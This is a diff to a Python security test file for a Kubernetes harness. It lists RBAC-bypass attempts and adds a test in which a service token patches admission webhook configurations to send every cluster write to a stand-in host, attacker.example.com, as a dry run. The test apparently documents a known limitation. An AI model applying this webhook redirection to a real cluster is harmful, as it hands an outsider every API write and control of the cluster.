@@ -2,9 +2,11 @@
 
 from typing import Any
 
+import pytest
 from harness.guard import NAMESPACE, Guard
 from harness.machine import Machine
 from harness.place import Place
+from harness.registering import CONFIGURATIONS
 
 AGENT = "attack"
 RBAC = "/apis/rbac.authorization.k8s.io/v1"
@@ -45,7 +47,15 @@ ATTACKS = {
     "take another's Lease": ("PUT", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/other"),
     "ask for a certificate": ("POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests"),
 }
-FORBIDDEN = 403
+# What RBAC cannot keep it from, and docs/security.md says so.
+FOREIGN = {
+    "name": "everything.example.com",
+    "clientConfig": {"url": "https://attacker.example.com/"},
+    "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}],
+    "sideEffects": "None",
+    "admissionReviewVersions": ["v1"],
+}
+OK, FORBIDDEN = 200, 403
 
 
 def test_token_of_the_service_opens_nothing_else(machine: Machine, place: Place, guard: Guard) -> None:
@@ -64,3 +74,14 @@ def test_token_of_the_service_opens_nothing_else(machine: Machine, place: Place,
     )
     assert place.policies() == {"allow-kafka", "default-deny-ingress"}
     assert len(guard.ready()) == len(guard.replicas())
+
+
+@pytest.mark.usefixtures("guard")
+@pytest.mark.parametrize("kind", CONFIGURATIONS)
+def test_what_it_writes_into_its_own_configurations_is_not_limited(machine: Machine, kind: str) -> None:
+    """Whoever has the token can lead every write of the cluster to himself: as a dry run, so that nobody is asked."""
+    token = machine.must("create", "token", NAMESPACE, f"--namespace={NAMESPACE}").stdout
+    path = f"{REGISTRATION}/{kind}s/{NAMESPACE}?dryRun=All"
+    asked = [{"method": "PATCH", "path": path, "headers": {}, "body": {"webhooks": [FOREIGN]}}]
+
+    assert machine.run_program("harness.attack", {"token": token, "agent": AGENT, "asked": asked}) == [OK]
